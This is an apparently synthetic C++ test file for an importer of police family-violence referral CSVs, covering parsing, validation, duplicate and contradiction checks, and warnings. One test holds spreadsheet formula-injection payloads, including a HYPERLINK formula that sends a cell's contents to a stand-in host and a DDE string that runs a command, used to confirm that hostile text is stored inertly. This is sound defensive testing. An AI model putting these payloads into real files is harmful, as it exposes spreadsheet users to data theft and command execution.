// SPDX-FileCopyrightText: Tēpu contributors
// SPDX-License-Identifier: GPL-3.0-or-later
#include "core/exchange/referrals/police_episodes.h"
#include "tests/exchange/referrals/bad_files.h"
#include "tests/exchange/referrals/sheet.h"
#include "tests/support/test.h"

using namespace tepu;

TEST_CASE("an episode holds what its columns say", "[exchange][referrals]")
{
    const Sheet::Cells order{{"police_actions", "arrest;police_safety_order"}, {"pso_days", "5"},
                             {"pso_served_at", "2018-05-02T12:00:00+12:00"}, {"harms", ""}, {"children_present", "2"},
                             {"narrative", "One.\nTwo."}, {"suburb", " Quarry Siding "}};
    Sheet::Cells person = order;
    person.insert({{"person_ref", "PR1"}, {"aliases", "Mary Rimu;Mere Totara"}, {"date_of_birth", "1985-04-17"},
                   {"ethnicities", "maori;pacific"}, {"phone", "021 555 0123"}, {"phone_note", "texts only"},
                   {"relationship", "ex_partner"}, {"pregnant", "1"}, {"notes", "afraid"}});
    const EpisodeFile file = read(Sheet::episodes().perpetrator(order).victim(person));
    REQUIRE(file.accepted.size() == 1);
    const ReferredEpisode& episode = file.accepted[0];
    CHECK(file.rows == 2);
    CHECK(episode.ref == "P1");
    CHECK(isoLocal(episode.reportedAt) == "2018-05-02T11:30:00+12:00");
    CHECK(episode.policeActions == QVector{PoliceAction::Arrest, PoliceAction::PoliceSafetyOrder});
    CHECK(episode.psoDays == 5);
    CHECK(episode.psoServedAt == episode.occurredAt + 55min);
    CHECK(episode.harms.isEmpty());
    CHECK(episode.childrenPresent == 2);
    CHECK(episode.narrative == "One.\nTwo.");
    CHECK(episode.suburb == QString("Quarry Siding"));
    CHECK_FALSE(episode.weapon);
    CHECK_FALSE(episode.isIncomplete());
    const ReferredPerson& victim = episode.people[1];
    CHECK(victim.line == 4); // the narrative of the row above takes two lines
    CHECK(victim.personRef == QString("PR1"));
    CHECK(victim.aliases == QVector<QString>{"Mary Rimu", "Mere Totara"});
    CHECK(victim.dateOfBirth == QDate(1985, 4, 17));
    CHECK(victim.ethnicities == QVector{Ethnicity::Maori, Ethnicity::Pacific});
    CHECK(victim.phoneNote == QString("texts only"));
    CHECK(victim.relationship == Relationship::ExPartner);
    CHECK(victim.pregnant);
}

TEST_CASE("subject is read as child exposed and kept as received", "[exchange][referrals]")
{
    const auto file = read(Sheet::episodes()
                               .perpetrator()
                               .victim()
                               .row({{"role", "subject"}})
                               .row({{"role", "child_exposed"}, {"given_names", "Tama"}}));
    REQUIRE(file.accepted.size() == 1);
    CHECK(file.accepted[0].people[2].role == Role::ChildExposed);
    CHECK(file.accepted[0].people[2].roleReceived == "subject");
    CHECK(file.accepted[0].people[3].roleReceived == "child_exposed");
}

TEST_CASE("a relationship on the perpetrator's row is ignored", "[exchange][referrals]")
{
    const auto file = read(Sheet::episodes().perpetrator({{"relationship", "sibling"}}).victim());
    CHECK_FALSE(file.accepted[0].people[0].relationship);
}

TEST_CASE("an episode whose child's row is rejected is imported incomplete", "[exchange][referrals]")
{
    const auto file = read(
        Sheet::episodes().perpetrator().victim().row({{"role", "child_exposed"}, {"date_of_birth", "2013-02-29"}}));
    REQUIRE(file.accepted.size() == 1);
    CHECK(file.accepted[0].people.size() == 2);
    CHECK(file.accepted[0].rejectedLines == QVector{4});
    CHECK(file.accepted[0].isIncomplete());
    CHECK(file.rowFaults[0].ref == "P1");
    CHECK(file.rejectedRefs.isEmpty());
}

TEST_CASE("a fault in an episode column stands on every row and rejects the episode", "[exchange][referrals]")
{
    const auto file = read(Sheet::episodes().perpetrator({{"police_risk", "huge"}}).victim({{"police_risk", "huge"}}));
    CHECK(file.accepted.isEmpty());
    CHECK(places(file.rowFaults) == QStringList{"2 police_risk", "3 police_risk"});
    CHECK(file.wholeFaults.isEmpty());
    CHECK(file.rejectedRefs == QStringList{"P1"});
}

TEST_CASE("contradictions are judged over rejected rows too", "[exchange][referrals]")
{
    const auto file =
        read(Sheet::episodes().perpetrator().victim().row({{"role", "friend"}, {"narrative", "Another."}}));
    CHECK(file.accepted.isEmpty());
    REQUIRE(file.wholeFaults.size() == 1);
    CHECK(file.wholeFaults[0].column == "narrative");
    CHECK(file.wholeFaults[0].lines == QVector{2, 4});
    CHECK(places(file.rowFaults) == QStringList{"4 role"});
}

TEST_CASE("rows with a wrong number of fields or no usable ref contradict nobody", "[exchange][referrals]")
{
    Sheet sheet = Sheet::episodes().perpetrator().victim();
    QStringList cut = sheet.rows()[1];
    cut[1] = "something else";
    cut.removeLast();
    const auto file = read(sheet.line(cut).row({{"episode_ref", "P 1"}, {"narrative", "Another."}}));
    REQUIRE(file.accepted.size() == 1);
    CHECK(file.accepted[0].rejectedLines == QVector{4});
    CHECK(places(file.rowFaults) == QStringList{"4 ", "5 episode_ref"});
    CHECK(file.rowFaults[0].reason == "34 fields, but the header has 35");
    CHECK(file.rowFaults[1].ref.isEmpty());
}

TEST_CASE("every column that contradicts is named", "[exchange][referrals]")
{
    const auto file = read(Sheet::episodes().perpetrator().victim({{"offence", "1"}, {"police_risk", "high"}}));
    REQUIRE(file.wholeFaults.size() == 2);
    CHECK(file.wholeFaults[0].column == "offence");
    CHECK(file.wholeFaults[1].column == "police_risk");
    CHECK(file.rejectedRefs == QStringList{"P1"});
}

TEST_CASE("another order of a list, another Unicode form or outer spaces contradict nothing", "[exchange][referrals]")
{
    const auto file =
        read(Sheet::episodes()
                 .perpetrator({{"harms", "verbal_abuse;physical_harm"}, {"suburb", QStringLiteral("Kōwhai")}})
                 .victim({{"harms", "physical_harm;verbal_abuse"}, {"suburb", QStringLiteral(" Ko\u0304whai\t")}}));
    CHECK(file.accepted.size() == 1);
}

TEST_CASE("an episode has exactly one perpetrator and at least one victim", "[exchange][referrals]")
{
    CHECK(read(Sheet::episodes().perpetrator().victim()).accepted.size() == 1);
    CHECK(read(Sheet::episodes().perpetrator().victim().victim({{"given_names", "Hana"}})).accepted.size() == 1);
    CHECK(read(Sheet::episodes().victim()).wholeFaults[0].reason.contains("no perpetrator"));
    CHECK(read(Sheet::episodes().perpetrator()).wholeFaults[0].reason.contains("no victim"));
    const auto two = read(Sheet::episodes().perpetrator().victim().perpetrator({{"given_names", "Hana"}}));
    CHECK(two.wholeFaults[0].reason.contains("more than one perpetrator: lines 2 and 4"));
    CHECK(two.rejectedRefs == QStringList{"P1"});
}

TEST_CASE("an episode whose only victim's row is rejected has no victim", "[exchange][referrals]")
{
    const auto file = read(Sheet::episodes().perpetrator().victim({{"gender", "F"}}));
    CHECK(file.accepted.isEmpty());
    CHECK(file.wholeFaults[0].reason.contains("no victim"));
}

TEST_CASE("the same row again is kept once with a warning", "[exchange][referrals]")
{
    const auto file = read(
        Sheet::episodes().perpetrator().victim({{"person_ref", "PR1"}}).victim({{"person_ref", " PR1"}}).perpetrator());
    REQUIRE(file.accepted.size() == 1);
    CHECK(file.accepted[0].people.size() == 2);
    CHECK(places(file.warnings) == QStringList{"4 ", "5 "});
    CHECK_FALSE(file.accepted[0].isIncomplete());
}

TEST_CASE("one Police number on two rows rejects the episode, in two episodes it is normal", "[exchange][referrals]")
{
    const auto file = read(Sheet::episodes()
                               .perpetrator({{"person_ref", "PR1"}})
                               .victim({{"person_ref", "PR1"}})
                               .perpetrator({{"episode_ref", "P2"}, {"person_ref", "PR1"}})
                               .victim({{"episode_ref", "P2"}}));
    CHECK(file.rejectedRefs == QStringList{"P1"});
    CHECK(file.wholeFaults[0].column == "person_ref");
    CHECK(file.wholeFaults[0].lines == QVector{2, 3});
    CHECK(file.accepted.size() == 1);
}

TEST_CASE("a Police number that stands again on a rejected row leaves the episode incomplete", "[exchange][referrals]")
{
    const auto file = read(
        Sheet::episodes().perpetrator().victim({{"person_ref", "PR1"}}).row({{"person_ref", "PR1"}, {"gender", "F"}}));
    REQUIRE(file.accepted.size() == 1);
    CHECK(file.accepted[0].rejectedLines == QVector{4});
}

TEST_CASE("rows of an episode need not stand together", "[exchange][referrals]")
{
    const auto file = read(
        Sheet::episodes().victim().victim({{"episode_ref", "P2"}}).perpetrator().perpetrator({{"episode_ref", "P2"}}));
    REQUIRE(file.accepted.size() == 2);
    CHECK(file.accepted[0].people[1].line == 4);
    CHECK(file.accepted[1].ref == "P2");
}

TEST_CASE("a row with a field too few finds its episode wherever the ref stands", "[exchange][referrals]")
{
    const Sheet sheet = Sheet::episodes().perpetrator().victim().row({{"given_names", "Tama"}});
    QStringList header = sheet.header();
    std::reverse(header.begin(), header.end());
    QVector<QStringList> rows = sheet.rows();
    for (QStringList& row : rows)
        std::reverse(row.begin(), row.end());
    rows[2].removeFirst();
    const auto file = readPoliceEpisodes(writeCsv(header, rows), importedAt);
    REQUIRE(file);
    REQUIRE(file->accepted.size() == 1);
    CHECK(file->accepted[0].rejectedLines == QVector{4});
    CHECK(file->rowFaults[0].ref == "P1");
}

TEST_CASE("an empty line is passed over with a warning", "[exchange][referrals]")
{
    const QByteArray bytes = Sheet::episodes().perpetrator().victim().bytes() + "\n";
    const auto file = readPoliceEpisodes(bytes, importedAt);
    REQUIRE(file);
    CHECK(file->rows == 2);
    CHECK(file->rowFaults.isEmpty());
    CHECK(places(file->warnings) == QStringList{"4 "});
}

TEST_CASE("strangulation without physical harm is pointed out once", "[exchange][referrals]")
{
    const Sheet::Cells odd{{"strangulation", "1"}};
    const Sheet::Cells plain{{"strangulation", "1"}, {"harms", "physical_harm"}};
    CHECK(places(read(Sheet::episodes().perpetrator(odd).victim(odd)).warnings) == QStringList{"2 strangulation"});
    CHECK(read(Sheet::episodes().perpetrator(plain).victim(plain)).warnings.isEmpty());
}

TEST_CASE("a child who is eighteen on the day of the report is pointed out", "[exchange][referrals]")
{
    const auto warnings = [](const char* role, const char* born) {
        return places(
            read(Sheet::episodes().perpetrator().victim().row({{"role", role}, {"date_of_birth", born}})).warnings);
    };
    CHECK(warnings("child_exposed", "2000-05-03").isEmpty());
    CHECK(warnings("child_exposed", "2000-05-02") == QStringList{"4 date_of_birth"});
    CHECK(warnings("subject", "2000-05-01") == QStringList{"4 date_of_birth"});
    CHECK(warnings("witness", "1980-01-01").isEmpty());
}

TEST_CASE("hidden characters in free text are kept and pointed out once for an episode", "[exchange][referrals]")
{
    const QString text = QStringLiteral("Calm.\x1B[2J");
    const auto file =
        read(Sheet::episodes().perpetrator({{"narrative", text}}).victim({{"narrative", text}, {"notes", text}}));
    CHECK(file.accepted[0].narrative == text);
    CHECK(places(file.warnings) == QStringList{"2 narrative", "3 notes"});
}

TEST_CASE("hostile text is stored as it came", "[exchange][referrals]")
{
    const auto file = readPoliceEpisodes(badFile("42_formula_injection.csv"), importedAt);
    REQUIRE(file);
    const auto& people = file->accepted[0].people;
    CHECK(file->accepted[0].address == "@home");
    CHECK(file->accepted[0].weapon == QString("=1+1"));
    CHECK(people[1].givenNames == "=HYPERLINK(\"http://example.invalid/?\"&A1,\"open\")");
    CHECK(people[2].givenNames == "+cmd|' /C calc'!A0");
    CHECK(people[5].givenNames == "=1+1");
    CHECK(people[8].givenNames == "null");
}

TEST_CASE("no carriage return is left of CRLF line ends", "[exchange][referrals]")
{
    const auto file = readPoliceEpisodes(badFile("14_crlf.csv"), importedAt);
    REQUIRE(file);
    CHECK_FALSE(file->accepted[0].narrative.contains(u'\r'));
    CHECK_FALSE(file->accepted[0].people[1].notes);
}
